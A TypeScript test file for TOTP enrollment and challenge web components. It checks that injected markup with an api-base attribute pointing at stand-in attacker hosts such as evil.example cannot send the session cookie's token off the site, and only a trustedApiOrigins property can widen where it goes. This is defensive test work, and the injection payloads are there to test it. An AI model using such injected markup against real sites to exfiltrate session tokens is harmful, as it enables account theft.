/*
 * Markup alone must not carry the session cookie's token off the site. `api-base` and
 * `session-cookie` are attributes, so an injected `<totp-enroll autostart api-base=…>` (no
 * script) chooses them; only a script property (`trustedApiOrigins`) may widen where a token
 * read from a cookie goes. fetch is stubbed: the requests would go to hosts that do not exist,
 * and what matters is the Authorization header they would carry.
 */
import { expect, html, waitUntil } from '@open-wc/testing';
import sinon from 'sinon';
import type { TotpEnroll } from '../../src/index.js';
import type { TotpChallenge } from '../../src/challenge.js';
import { clearStytchCookies, enrollElement, errorText, recordEvents, waitForState } from '../enroll/harness.js';
import { challengeElement, enter } from '../challenge/harness.js';
import { onlyError } from './harness.js';

const COOKIE_TOKEN = 'cookie-token-3f9a';

describe('hardening: where the session cookie\'s token may go', () => {
  const sandbox = sinon.createSandbox();
  let sent: { url: string; credentials: string }[];
  /** <totp-enroll>'s "who is the user?" on connect (GET /users/me), kept apart: the tests are about the call after it. */
  let lookups: { url: string; credentials: string }[];
  let warn: sinon.SinonStub;
  let recorder: ReturnType<typeof recordEvents>;
  const host = document.createElement('div');

  beforeEach(() => {
    clearStytchCookies();
    document.cookie = `stytch_session=${COOKIE_TOKEN}; path=/`;
    sent = [];
    lookups = [];
    recorder = recordEvents();
    warn = sandbox.stub(console, 'warn');
    sandbox.stub(window, 'fetch').callsFake(async (input: RequestInfo | URL, init?: RequestInit) => {
      const authorization = new Headers(init?.headers).get('Authorization') ?? '';
      const request = { url: String(input), credentials: atob(authorization.replace(/^Basic /, '')) };
      // The test harness's own control requests (/__test__/…) carry no token and are no part of this.
      if (!request.url.includes('/__test__/')) (request.url.endsWith('/sdk/v1/users/me') ? lookups : sent).push(request);
      return new Response(JSON.stringify({ status_code: 401, error_type: 'unauthorized_credentials', error_message: 'no session' }),
        { status: 401, headers: { 'Content-Type': 'application/json' } });
    });
    document.body.append(host);
  });
  afterEach(() => {
    host.replaceChildren();
    host.remove();
    recorder.stop();
    sandbox.restore();
    clearStytchCookies();
  });

  const tokenWarnings = () => warn.getCalls().map((call) => String(call.args[0])).filter((text) => text.includes('trustedApiOrigins'));

  it('injected markup with api-base on another site sends public_token:public_token, never the cookie\'s token, and warns once', async () => {
    host.innerHTML = '<totp-enroll autostart api-base="https://evil.example" public-token="x"></totp-enroll>';
    const el = host.firstElementChild as TotpEnroll;
    await waitUntil(() => sent.length === 1, 'no request left');
    expect(sent[0]!.url).to.equal('https://evil.example/sdk/v1/totps');
    expect(sent[0]!.credentials).to.equal('x:x');
    // The lookup before it follows the same rule.
    expect(lookups).to.deep.equal([{ url: 'https://evil.example/sdk/v1/users/me', credentials: 'x:x' }]);
    await waitForState(el, 'error');
    expect(tokenWarnings()).to.have.length(1);
    expect(tokenWarnings()[0]).to.contain('https://evil.example').and.not.to.contain(COOKIE_TOKEN);
  });

  it('session-cookie naming another readable cookie does not send it off either', async () => {
    document.cookie = 'theme=dark-3f9a; path=/';
    try {
      host.innerHTML = '<totp-enroll autostart api-base="https://theme.evil.example" public-token="x" session-cookie="theme"></totp-enroll>';
      await waitUntil(() => sent.length === 1, 'no request left');
      expect(sent[0]!.credentials).to.equal('x:x');
    } finally {
      document.cookie = 'theme=; max-age=0; path=/';
    }
  });

  it('an attribute cannot widen the list: trusted-api-origins / trustedapiorigins in markup do nothing', async () => {
    host.innerHTML = '<totp-enroll autostart api-base="https://attr.evil.example" public-token="x" '
      + 'trusted-api-origins=\'["https://attr.evil.example"]\' trustedapiorigins="https://attr.evil.example"></totp-enroll>';
    const el = host.firstElementChild as TotpEnroll;
    await waitUntil(() => sent.length === 1, 'no request left');
    expect(sent[0]!.credentials).to.equal('x:x');
    expect(el.trustedApiOrigins).to.deep.equal([]);
  });

  it('the trustedApiOrigins property lets the page send it to its own API on another origin', async () => {
    // Set before it connects, so its lookup of the user (on connect) may carry the token too.
    const el = await enrollElement(html`<totp-enroll api-base="https://auth.example.com/stytch" public-token="x"
      .trustedApiOrigins=${['https://auth.example.com']}></totp-enroll>`);
    await el.start();
    expect(sent.map((request) => request.credentials)).to.deep.equal([`x:${COOKIE_TOKEN}`]);
    expect(lookups.map((request) => request.credentials)).to.deep.equal([`x:${COOKIE_TOKEN}`]);
    expect(tokenWarnings()).to.deep.equal([]);
  });

  it('a token the page hands over by sessionToken goes to the api-base it configured', async () => {
    const el = await enrollElement(html`<totp-enroll api-base="https://own-api.example" public-token="x"></totp-enroll>`);
    el.sessionToken = () => 'given-token';
    await el.start();
    expect(sent.map((request) => request.credentials)).to.deep.equal(['x:given-token']);
  });

  it('Stytch\'s own API host still gets the cookie\'s token (README, Production 2)', async () => {
    const el = await enrollElement(html`<totp-enroll api-base="https://api.stytch.com" public-token="public-token-live-x"></totp-enroll>`);
    await el.start();
    expect(sent.map((request) => request.credentials)).to.deep.equal([`public-token-live-x:${COOKIE_TOKEN}`]);
  });

  it('a trustedApiOrigins entry that is no origin is a configuration fault naming the property, before any request', async () => {
    const el = await enrollElement(html`<totp-enroll api-base="https://auth.example.com" public-token="x"></totp-enroll>`);
    el.trustedApiOrigins = ['https://*.example.com'];
    await el.start();
    await waitForState(el, 'error');
    expect(sent).to.deep.equal([]);
    const error = onlyError(recorder.events, 'create');
    expect(error.error_type).to.equal('invalid_trusted_api_origins');
    expect(errorText(el)).to.contain('trustedApiOrigins');
  });

  describe('<totp-challenge>', () => {
    it('injected with api-base on another site: Verify sends public_token:public_token', async () => {
      host.innerHTML = '<totp-challenge api-base="https://challenge.evil.example" public-token="x"></totp-challenge>';
      const el = host.firstElementChild as TotpChallenge;
      await el.updateComplete;
      await enter(el, '123456');
      await waitUntil(() => sent.length === 1, 'no request left');
      expect(sent[0]!.url).to.equal('https://challenge.evil.example/sdk/v1/totps/authenticate');
      expect(sent[0]!.credentials).to.equal('x:x');
      expect(tokenWarnings()).to.have.length(1);
    });

    it('with the origin in its trustedApiOrigins property, Verify sends the cookie\'s token', async () => {
      const el = await challengeElement(html`<totp-challenge api-base="https://auth.example.com" public-token="x"></totp-challenge>`);
      el.trustedApiOrigins = ['https://auth.example.com'];
      await enter(el, '123456');
      await waitUntil(() => sent.length === 1, 'no request left');
      expect(sent[0]!.credentials).to.equal(`x:${COOKIE_TOKEN}`);
    });

    it('a trustedApiOrigins entry that is no origin is a configuration fault naming the property, not "could not be loaded"', async () => {
      const el = await challengeElement(html`<totp-challenge api-base="https://auth.example.com" public-token="x"></totp-challenge>`);
      el.trustedApiOrigins = ['https://*.example.com'];
      await enter(el, '123456');
      await waitUntil(() => errorText(el) !== '', 'no message shown');
      expect(sent).to.deep.equal([]);
      expect(errorText(el)).to.contain('trustedApiOrigins');
      expect(errorText(el)).not.to.contain('loaded');
    });
  });
});
